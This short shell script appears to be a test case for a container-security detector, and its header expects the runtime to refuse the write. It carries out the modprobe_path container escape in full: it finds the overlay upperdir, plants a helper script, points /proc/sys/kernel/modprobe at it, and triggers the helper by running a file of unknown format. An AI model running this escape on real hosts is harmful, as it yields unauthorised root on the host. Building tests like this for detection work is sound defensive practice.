# category: container-escape
# technique: T1611
# art: no
# expect: core-pattern-write
# desc: the modprobe_path escape: a payload is written into the container's writable layer, the kernel's usermode helper /proc/sys/kernel/modprobe is pointed at it by its host path (the overlay's upperdir), and a file of unknown format is executed to make the kernel run the helper as host root (the runtime's read-only /proc/sys refuses the write)
upper=$(sed -n 's/.* - overlay .*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -1)
echo "upper layer on the host: ${upper:-unknown}"
printf '#!/bin/sh\nid > %s/tmp/pwned\n' "$upper" > /tmp/x
chmod +x /tmp/x
echo "$upper/tmp/x" > /proc/sys/kernel/modprobe || echo "modprobe_path write refused"
printf '\377\377\377\377' > /tmp/trigger
chmod +x /tmp/trigger
/tmp/trigger || true
cat /tmp/pwned 2>/dev/null || echo "no escape"
